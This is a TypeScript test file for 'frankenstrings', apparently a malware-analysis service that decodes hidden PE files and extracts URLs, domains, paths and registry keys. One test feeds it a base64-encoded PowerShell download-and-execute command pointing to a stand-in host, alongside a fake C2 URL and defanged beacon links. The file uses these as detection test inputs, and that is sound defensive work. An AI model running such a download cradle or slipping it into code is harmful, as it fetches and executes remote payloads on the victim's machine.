import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { execute, manifest } from '../../../src/services/frankenstrings/index.js';
import { isDomain, refang } from '../../../src/sdk/iocs.js';
import { isPe, xor } from '../../../src/services/frankenstrings/decoders.js';
import { validateManifest } from '../../../src/core/runtime/manifest.js';
import { allTags, heuristicIds, runFile, runOn, tempDir } from '../../helpers/service.js';

const CORPUS = fileURLToPath(new URL('../../../../shared/corpus/strelka-fixtures/', import.meta.url));
let root: string;
let cleanup: () => Promise<void>;
before(async () => ({ dir: root, cleanup } = await tempDir('frankenstrings-')));
after(() => cleanup());

async function onFixture(name: string, fileType = 'unknown') {
  const workDir = await mkdtemp(join(root, 'work-'));
  return runFile(execute, CORPUS + name, workDir, name, fileType);
}

/** The PE inside test_pe.b64, used to build encoded variants. */
async function samplePe(): Promise<Buffer> {
  return Buffer.from((await readFile(CORPUS + 'test_pe.b64', 'latin1')).trim(), 'base64');
}

test('manifest is valid', () => {
  validateManifest(manifest);
});

test('base64 PE is extracted', async () => {
  const out = await onFixture('test_pe.b64', 'text/plain');
  assert.equal(out.extracted?.length, 1);
  const child = await readFile(out.extracted![0]!.path);
  assert.equal(child.subarray(0, 2).toString(), 'MZ');
  assert.ok(isPe(child));
  assert.deepEqual(heuristicIds(out), [3]);
});

test('links in e-mails and HTML', async () => {
  const links = await onFixture('test_links.eml', 'document/email');
  assert.deepEqual(allTags(links, 'network.static.uri').sort(), [
    'https://one.example.com/a', 'https://three.example.com/c', 'https://two.example.com/b',
  ]);
  assert.ok(allTags(links, 'network.static.domain').includes('two.example.com'));
  assert.ok(allTags(links, 'network.email.address').includes('sender@external.example.com'));

  const gateway = await onFixture('test_email_gateway_links.eml', 'document/email');
  const uris = allTags(gateway, 'network.static.uri');
  assert.ok(uris.includes('https://no-gateway.example.com/plain'));
  // Destinations behind the redirector, plain and percent-encoded.
  assert.ok(uris.includes('https://actual-destination.example.com/path?foo=bar'));
  assert.ok(uris.includes('https://encoded-destination.example.com/path?foo=bar'));
  // 192.0.2.1 is a documentation address: reported, not tagged.
  assert.deepEqual(allTags(gateway, 'network.static.ip'), []);
  assert.ok(gateway.sections.some((s) => s.title === 'Non-public IP addresses' && JSON.stringify(s.body).includes('192.0.2.1')));

  const html = await onFixture('test_hyperlinks.html', 'code/html');
  assert.deepEqual(allTags(html, 'network.static.domain').sort(), [
    'www.example.com', 'www.example2.com', 'www.example3.com', 'www.example4.com', 'www.example5.com',
  ]);
  assert.ok(allTags(html, 'network.static.uri').includes('https://www.example.com/downloads/example.pdf'));
});

test('test_xor.exe: an ordinary PE (it XORs a string at run time), no hidden PE in it', async () => {
  const out = await onFixture('test_xor.exe', 'executable/windows/pe64');
  assert.equal(out.extracted, undefined);
  assert.deepEqual(heuristicIds(out), []);
  assert.deepEqual(allTags(out, 'file.path'), ['C:\\Users\\karl\\source\\repos\\helloworld\\x64\\Release\\helloworld.pdb']);
  assert.deepEqual(allTags(out, 'network.static.domain'), []);
});

test('single-byte XOR PE is found and decoded', async () => {
  const pe = await samplePe();
  const data = Buffer.concat([Buffer.alloc(777, 0x90), xor(pe, 0x5a), Buffer.from('trailing data')]);
  const out = await runOn(execute, root, 'blob.bin', 'unknown', data);
  assert.equal(out.extracted?.length, 1);
  assert.deepEqual(await readFile(out.extracted![0]!.path), pe);
  assert.deepEqual(heuristicIds(out), [2]);
  assert.match(out.sections.find((s) => s.heuristic?.id === 2)!.title, /XOR key 0x5a at offset 0x309/);
});

test('hex-encoded PE is decoded', async () => {
  const pe = await samplePe();
  const out = await runOn(execute, root, 'dropper.js', 'code/javascript', `var p = "${pe.toString('hex')}";\n`);
  assert.equal(out.extracted?.length, 1);
  assert.deepEqual(await readFile(out.extracted![0]!.path), pe);
  assert.deepEqual(heuristicIds(out), [5]);
});

test('base64 script and base64 text with indicators', async () => {
  const ps = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')", 'utf16le').toString('base64');
  const note = Buffer.from('Contact the operator at https://c2.evil-domain.com/gate.php for instructions').toString('base64');
  const out = await runOn(execute, root, 'run.bat', 'code/batch', `powershell -enc ${ps}\r\nrem ${note}\r\n`);
  assert.equal(out.extracted?.length, 1);
  assert.match(out.extracted![0]!.name, /\.ps1$/);
  assert.ok(heuristicIds(out).includes(1));
  assert.ok(allTags(out, 'network.static.uri').includes('https://c2.evil-domain.com/gate.php'));
});

test('defanged indicators are refanged', async () => {
  assert.equal(refang('hxxps://evil[.]example(.)org/x'), 'https://evil.example.org/x');
  const out = await runOn(execute, root, 'report.txt', 'text/plain', 'Beacon to hxxp://bad-site[.]com/payload and mail ops[@]bad-site[.]com');
  assert.ok(allTags(out, 'network.static.uri').includes('http://bad-site.com/payload'));
  assert.ok(allTags(out, 'network.static.domain').includes('bad-site.com'));
  assert.ok(allTags(out, 'network.email.address').includes('ops@bad-site.com'));
  assert.ok(out.sections.some((s) => s.title === 'Defanged indicators'));
});

test('false positives are kept out', async () => {
  const text = [
    'Product v1.2.3.4 build', 'Windows 10.0.19041.1 release', 'run file.exe then setup.dll, see version.txt',
    'and readme.md', 'using System.IO;', 'gateway 10.1.2.3', 'server 8.8.4.4', 'v6 2607:f8b0:4005:80a::200e',
    // Go and Python symbols, assembly versions and noise typical of binaries.
    'runtime.name reflect.call importlib.abc', 'AssemblyVersion 1.0.0.0', 'xq uu.uk g.li', 'B:\\6ohR',
  ].join('\n');
  const out = await runOn(execute, root, 'notes.txt', 'text/plain', text);
  assert.deepEqual(allTags(out, 'network.static.ip').sort(), ['2607:f8b0:4005:80a::200e', '8.8.4.4']);
  assert.deepEqual(allTags(out, 'network.static.domain'), []);
  assert.deepEqual(allTags(out, 'file.path'), []);
  const other = out.sections.find((s) => s.title === 'Non-public IP addresses');
  assert.deepEqual(other?.body, { '10.1.2.3': 'private' });
  for (const name of ['file.exe', 'setup.dll', 'version.txt', 'readme.md', 'System.IO']) assert.equal(isDomain(name), false, name);
  assert.equal(isDomain('www.readme.md'), true);
  // Newer generic TLDs count in URLs, not as bare names.
  const url = await runOn(execute, root, 'u.txt', 'text/plain', 'go to https://shop.example.store/cart now');
  assert.deepEqual(allTags(url, 'network.static.domain'), ['shop.example.store']);
});

test('UTF-16LE strings, Windows paths and registry keys', async () => {
  const wide = Buffer.from('\x00\x01C:\\Program Files\\Evil Corp\\svc.exe\x00', 'utf16le');
  const reg = Buffer.from('HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\x00', 'utf16le');
  const out = await runOn(execute, root, 'x.bin', 'unknown', Buffer.concat([Buffer.from([0xff, 0xfe, 0x01]), wide, reg]));
  assert.deepEqual(allTags(out, 'file.path'), ['C:\\Program Files\\Evil Corp\\svc.exe']);
  assert.deepEqual(allTags(out, 'dynamic.registry_key'), ['HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run']);
});

test('only the first max_size_mb are scanned', async () => {
  const data = Buffer.concat([Buffer.alloc(1024 * 1024, 0x20), Buffer.from(' https://late.example.com/x ')]);
  const out = await runOn(execute, root, 'big.bin', 'unknown', data, { max_size_mb: 1 });
  assert.equal(out.partial, true);
  assert.deepEqual(allTags(out, 'network.static.uri'), []);
});
